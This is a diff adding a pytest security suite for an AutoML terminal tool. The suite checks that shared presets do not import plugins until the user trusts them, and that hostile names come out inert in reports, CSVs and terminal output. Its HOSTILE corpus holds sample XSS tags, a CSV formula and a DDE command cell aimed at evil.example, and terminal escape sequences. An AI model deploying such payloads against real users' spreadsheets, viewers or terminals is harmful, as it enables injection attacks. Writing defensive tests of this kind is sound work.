@@ -1,0 +1,198 @@
+"""Other people's files: tables, presets and run folders someone shared. Nothing in them runs unasked, and nothing
+they say comes out live: no markup in report.md or model_card.md, no formula in a CSV, no escape sequence on the
+terminal. The corpus below is the hostile text; add to it when a new trick turns up."""
+
+from __future__ import annotations
+
+import sys
+import textwrap
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from conftest import PENGUINS
+from test_end_to_end import cli
+
+HOSTILE = {
+    "html": "<img src=x onerror=alert(1)>",
+    "script": "<script>alert(1)</script>",
+    "image": "![x](http://evil.example/x.png)",
+    "link": "[click](http://evil.example)",
+    "formula": '=HYPERLINK("http://evil.example/?n=0","r0")',
+    "plus": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd",
+    "title_escape": "\x1b]0;pwned\x07",
+    "clear_screen": "\x1b[2J",
+    "email": "alice.owner@example.com",
+    "emphasis": "**loud** _and_ `code`",
+    "pipe": "a | b",
+}
+TERMINAL_LIVE = ["\x1b", "\x07"]
+MARKER_PLUGIN = """
+import os
+from pathlib import Path
+
+Path(os.environ["AUTOML_TUI_TEST_MARKER"]).write_text("imported")
+
+def register():
+    pass
+"""
+
+
+@pytest.fixture
+def marker(tmp_path, monkeypatch):
+    """A plugin module that leaves a file behind when anything imports it."""
+    folder = tmp_path / "plugin_code"
+    folder.mkdir()
+    (folder / "marker_plugin.py").write_text(MARKER_PLUGIN)
+    monkeypatch.syspath_prepend(str(folder))
+    monkeypatch.setenv("PYTHONPATH", str(folder))
+    path = tmp_path / "imported.txt"
+    monkeypatch.setenv("AUTOML_TUI_TEST_MARKER", str(path))
+    yield path
+    sys.modules.pop("marker_plugin", None)
+
+
+def hostile_preset(folder: Path, **extra) -> Path:
+    (folder / "presets").mkdir(parents=True, exist_ok=True)
+    path = folder / "presets" / "quick.toml"
+    lines = ["time_budget_s = 20", 'models = ["linear"]', 'plugins = ["marker_plugin"]']
+    lines += [f"{key} = {value}" for key, value in extra.items()]
+    path.write_text("\n".join(lines) + "\n")
+    return path
+
+
+async def test_the_wizard_lists_a_shared_preset_without_running_its_plugin(tmp_path, marker, monkeypatch):
+    from test_wizard import SIZE, dataset_ready, on_step, until
+    from textual.widgets import OptionList
+    from wizard_support import no_clearml
+
+    from automl_tui.app import AutomlApp
+    from automl_tui.screens.choice import PresetScreen
+    from automl_tui.screens.trust import TrustPluginsScreen
+
+    project = tmp_path / "shared"
+    project.mkdir()
+    (project / "penguins.csv").write_bytes(PENGUINS.read_bytes())
+    hostile_preset(project)
+    monkeypatch.chdir(project)
+    app = AutomlApp(start_dir=project, out=project / "runs", clearml_queues=no_clearml)
+    async with app.run_test(size=SIZE) as pilot:
+        await dataset_ready(pilot, app)  # the dataset screen estimates each preset's time
+        await pilot.press("enter")
+        await until(pilot, on_step(app, PresetScreen))
+        options = app.screen.query_one("#choices", OptionList)
+        assert "presets/quick.toml" in [option.id for option in options.options]  # listed, described
+        while options.highlighted_option.id != "presets/quick.toml":
+            await pilot.press("up")
+        await pilot.press("enter")
+        await until(pilot, lambda: isinstance(app.screen, TrustPluginsScreen))
+        assert "marker_plugin" in str(app.screen.query_one("#trust-body").render())
+        await pilot.press("enter")  # the default answer: Back
+        await until(pilot, lambda: isinstance(app.screen, PresetScreen))
+    assert not marker.exists() and "marker_plugin" not in sys.modules
+
+
+def test_a_preset_with_a_typo_is_refused_before_its_plugin_is_imported(tmp_path, marker):
+    from engine import config
+    from engine.errors import UserError
+
+    preset = hostile_preset(tmp_path, time_budgett_s=5)
+    with pytest.raises(UserError, match="Unknown setting 'time_budgett_s'"):
+        config.build(str(preset))
+    assert not marker.exists()
+
+
+def test_a_plugin_named_in_a_file_runs_only_once_trusted(tmp_path, marker, capsys):
+    preset = hostile_preset(tmp_path)
+    code, _, err = cli([PENGUINS, "--preset", preset, "--out", tmp_path / "runs"], capsys)
+    assert code == 2 and "--allow-plugin marker_plugin" in err
+    assert not marker.exists() and not (tmp_path / "runs").exists()
+
+
+def test_reading_a_shared_run_folder_imports_nothing(tmp_path, marker, capsys):
+    """A run folder whose config names a plugin (and a plugin metric): `report` renders from what it recorded."""
+    from conftest import quick_config
+
+    import engine
+
+    run_dir = Path(engine.run(quick_config(PENGUINS, tmp_path / "runs", target="species")).run_dir)
+    config = (run_dir / "config.toml").read_text()
+    assert "plugins = []" in config
+    (run_dir / "config.toml").write_text(config.replace("plugins = []", 'plugins = ["marker_plugin"]'))
+    code, out, _ = cli(["report", run_dir], capsys)
+    assert code == 0 and out.strip().endswith("report.md")
+    assert not marker.exists() and "marker_plugin" not in sys.modules
+
+
+def test_hostile_names_come_out_as_text_everywhere(tmp_path, capsys):
+    """Column names, class labels and the file name carry the corpus through a whole run, `predict` included."""
+    frame = pd.read_csv(PENGUINS).dropna()
+    renames = dict(zip(["island", "bill_length_mm", "bill_depth_mm", "sex"], HOSTILE.values(), strict=False))
+    frame = frame.rename(columns=renames)
+    labels = [HOSTILE["formula"], HOSTILE["html"], HOSTILE["title_escape"] + "Gentoo"]
+    frame["species"] = frame["species"].map(dict(zip(["Adelie", "Chinstrap", "Gentoo"], labels, strict=True)))
+    table = tmp_path / f"{HOSTILE['email']}.csv"
+    frame.to_csv(table, index=False)
+    code, out, err = cli(
+        [table, "--target", "species", "--preset", "fast", "--max-trials", "0", "--out", tmp_path / "runs"], capsys
+    )
+    assert code == 0, err
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    (run_dir,) = (tmp_path / "runs").iterdir()
+    for name in ("report.md", "model_card.md"):
+        text = (run_dir / name).read_text(encoding="utf-8")
+        assert not live_markup(text), name
+        assert "example.com" not in text and not [c for c in TERMINAL_LIVE if c in text]
+    code, out, err = cli(["predict", run_dir, table, "-o", tmp_path / "predicted.csv"], capsys)
+    assert code == 0, err
+    assert "\x1b" not in out + err
+    for written in (tmp_path / "predicted.csv", run_dir / "test_predictions.csv"):
+        cells = pd.read_csv(written, dtype=str, keep_default_na=False)
+        texts = [*cells.columns, *cells.to_numpy().ravel()]
+        assert not [cell for cell in texts if cell[:1] in "=+@" or (cell[:1] == "-" and not _number(cell))]
+        assert any(cell.startswith("'=HYPERLINK") for cell in texts)  # kept, as text
+
+
+def live_markup(markdown: str) -> list[str]:
+    """The tags a Markdown viewer that allows HTML would make of `markdown` beyond what the report means to show:
+    images other than its own charts, links out of the run folder, scripts and other raw HTML."""
+    import re
+
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
+    tags = re.findall(r"<(img|a|script|iframe|svg|object)\b[^>]*>", html)
+    own = re.findall(r'<(?:img|a) (?:src|href)="plots/[\w.-]+"', html)
+    return tags[len(own) :] if len(tags) != len(own) else []
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_raw_csv_keeps_cells_as_predicted(tmp_path, capsys):
+    frame = pd.read_csv(PENGUINS).dropna()
+    frame["species"] = frame["species"].replace("Gentoo", HOSTILE["formula"])
+    table = tmp_path / "penguins.csv"
+    frame.to_csv(table, index=False)
+    code, _, err = cli([table, "--target", "species", "--max-trials", "0", "--out", tmp_path / "runs"], capsys)
+    assert code == 0, err
+    (run_dir,) = (tmp_path / "runs").iterdir()
+    code, _, err = cli(["predict", run_dir, table, "-o", tmp_path / "raw.csv", "--raw-csv"], capsys)
+    assert code == 0, err
+    assert HOSTILE["formula"] in set(pd.read_csv(tmp_path / "raw.csv")["prediction"])
+
+
+def test_markdown_and_terminal_text_helpers_leave_nothing_live():
+    from engine.formatting import md_safe, without_controls
+
+    for text in HOSTILE.values():
+        assert not live_markup(md_safe(text)) and "\x1b" not in without_controls(text)
+    assert live_markup(HOSTILE["image"]) and live_markup(HOSTILE["script"])  # the check can fail
+    assert md_safe("bill_length_mm") == "bill_length_mm"  # words stay readable in the raw file
+    assert textwrap.dedent(md_safe("**x**")) == "\\*\\*x\\*\\*"
